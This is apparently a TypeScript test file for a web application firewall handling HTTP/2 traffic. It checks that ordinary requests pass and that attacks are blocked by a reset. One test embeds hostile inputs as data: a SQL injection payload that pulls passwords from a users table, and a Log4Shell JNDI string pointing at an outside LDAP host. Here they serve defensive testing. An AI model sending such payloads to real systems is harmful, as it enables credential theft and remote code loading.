import test from 'ava';
import { crsEngine } from '../../../helpers/crs-engine.js';
import { TinyEngine } from '../../../helpers/tiny-web-engine.js';
import { WebLab, type WebLabOptions } from '../../../helpers/web-lab.js';

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const SETTINGS = frame(4, 0, 0, '');
const END_STREAM = 1;
const END_HEADERS = 4;

function frame(type: number, flags: number, stream: number, payload: string): string {
  const n = payload.length;
  return String.fromCharCode(n >> 16, (n >> 8) & 255, n & 255, type, flags, 0, 0, 0, stream) + payload;
}

/** Fields as literals that are not indexed (RFC 7541 section 6.2.2). */
function fields(list: readonly (readonly [string, string])[]): string {
  return list.map(([name, value]) => `\0${String.fromCharCode(name.length)}${name}${String.fromCharCode(value.length)}${value}`).join('');
}

function request(stream: number, path: string, body: string | null, extra: readonly (readonly [string, string])[] = []): string {
  const head = fields([[':method', body === null ? 'GET' : 'POST'], [':scheme', 'http'], [':path', path], [':authority', 'shop.example'], ['user-agent', 'Mozilla/5.0'], ['accept', '*/*'], ...(body === null ? [] : ([['content-type', 'application/x-www-form-urlencoded'], ['content-length', String(body.length)]] as const)), ...extra]);
  return frame(1, END_HEADERS | (body === null ? END_STREAM : 0), stream, head) + (body === null ? '' : frame(0, END_STREAM, stream, body));
}

const answer = (stream: number, text: string): string => frame(1, END_HEADERS, stream, fields([[':status', '200'], ['content-type', 'text/html']])) + frame(0, END_STREAM, stream, text);

function lab(o: Partial<WebLabOptions> = {}): WebLab {
  return new WebLab({ engine: crsEngine(), noRules: true, block: 'page', hold: { requestBytes: 8192, memcap: 1 << 20, timeoutMs: 400 }, ...o });
}

test('streams of HTTP/2 are exchanges like any other', (t) => {
  const engine = new TinyEngine();
  const l = lab({ engine });
  l.client(PREFACE + SETTINGS + request(1, '/a?b=c', null) + request(3, '/form', 'x=y'));
  l.server(SETTINGS + answer(3, 'second') + answer(1, 'first'));
  t.deepEqual(engine.made.map((tx) => [tx.request?.method, tx.request?.target, tx.requestText, tx.responseText]), [['GET', '/a?b=c', '', 'first'], ['POST', '/form', 'x=y', 'second']]);
  t.deepEqual(engine.made.map((tx) => tx.phases), [[1, 2, 3, 4, 5], [1, 2, 3, 4, 5]]);
  t.is(l.errors, 0);
});

test('an attack in HTTP/2 is blocked wherever it is cut, by a reset', (t) => {
  const SQL = encodeURIComponent("x' UNION SELECT password FROM users-- -");
  for (const attack of [request(1, `/item?id=${SQL}`, null), request(1, '/form', `id=${SQL}`), request(1, '/', null, [['x-api', '${jndi:ldap://203.0.113.9/a}']])]) {
    const whole = PREFACE + SETTINGS + attack;
    for (const sizes of [[], [PREFACE.length + 9], [whole.length - 1], Array<number>(whole.length).fill(1)]) {
      const l = lab();
      l.client(whole, ...sizes);
      t.true(l.served.length < whole.length);
      t.is(l.events[0]?.web.action, 'blocked');
      t.is(l.events[0]?.web.answer, 'reset');
      t.true(l.clientWasReset && l.serverWasReset);
      t.is(l.errors, 0);
    }
  }
});

test('ordinary HTTP/2 passes unchanged', (t) => {
  const l = lab();
  const talk = PREFACE + SETTINGS + request(1, '/shop?item=17', null) + request(3, '/form', 'name=Ann');
  l.client(talk, 40, 50);
  l.server(SETTINGS + answer(1, '<h1>welcome</h1>') + answer(3, 'thanks'));
  t.is(l.served, talk);
  t.deepEqual(l.events, []);
});
